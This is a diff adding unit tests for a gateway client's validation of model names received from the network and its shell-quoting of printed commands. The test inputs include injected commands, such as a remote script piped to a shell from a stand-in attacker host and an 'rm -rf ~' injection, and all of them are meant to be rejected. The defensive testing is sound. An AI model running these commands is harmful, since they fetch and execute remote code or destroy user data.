@@ -1,5 +1,6 @@
+import { classify } from '../../src/gateway/classify.js';
 import { describe, expect, it } from 'vitest';
-import { canonicalModel, closestNames, editDistance, normalizeModel } from '../../src/gateway/models.js';
+import { canonicalModel, closestNames, editDistance, normalizeModel, MAX_MODELS, servedModels, shellWord, usableModelId } from '../../src/gateway/models.js';
 import { environmentOf, isLoopbackAddress, isLoopbackHost, normalizeBaseUrl } from '../../src/gateway/urls.js';
 import { maskKey, normalizeKey, redact, validateKey } from '../../src/gateway/key.js';
 
@@ -300,5 +301,42 @@ describe('keys', () => {
 
   it('redacts every occurrence', () => {
     expect(redact('a sk-1234567890abcdef b sk-1234567890abcdef', 'sk-1234567890abcdef')).toBe('a ****cdef b ****cdef');
+  });
+});
+
+describe('model names from the network (issue 21, 8 and 9)', () => {
+  it.each([
+    ['gpt-5.4', true],
+    ['openai/gpt-4o', true],
+    ['claude-3-5-sonnet@20240620', true],
+    ['models/gemini-2.5-pro:latest', true],
+    ['gpt-5.4-mini; curl -s https://attacker.example/p.sh | sh #', false],
+    ['gpt\n[ok] forged', false],
+    ['gpt\u001b[2J', false],
+    ["it's", false],
+    ['', false],
+    ['x'.repeat(129), false],
+    ['-rf', false],
+  ])('%j usable: %s', (id, ok) => expect(usableModelId(id)).toBe(ok));
+
+  it('keeps usable names once each, at most MAX_MODELS, and counts what it left out', () => {
+    const many = Array.from({ length: 5000 }, (_, i) => `m-${i}`);
+    expect(servedModels([...many, 'a;b', 'gpt\nx', 'm-1'])).toEqual({ models: many.slice(0, MAX_MODELS), unusable: 2, beyondLimit: 5000 - MAX_MODELS });
+    expect(servedModels(['gpt-5.4', 'o3'])).toEqual({ models: ['gpt-5.4', 'o3'], unusable: 0, beyondLimit: 0 });
+  });
+
+  it('a value put into a printed command is one shell word', () => {
+    expect(shellWord('gpt-5.4')).toBe('gpt-5.4');
+    expect(shellWord('a; rm -rf ~ #')).toBe("'a; rm -rf ~ #'");
+    expect(shellWord("it's")).toBe("'it'\\''s'");
+  });
+
+  it("says what it left out of the gateway's list", () => {
+    const body = JSON.stringify({ data: [{ id: 'gpt-5.4' }, { id: 'gpt-5.4-mini; curl x | sh #' }, { id: 'a\nb' }] });
+    expect(classify({ kind: 'response', status: 200, headers: {}, body, elapsedMs: 5 }, { baseUrl: 'https://api.lightweight.one/v1', timeoutSeconds: 10 })).toMatchObject({
+      ok: true,
+      models: ['gpt-5.4'],
+      summary: 'The gateway at api.lightweight.one answered in 5 ms with 1 model (2 with characters no model name has left out).',
+    });
   });
 });
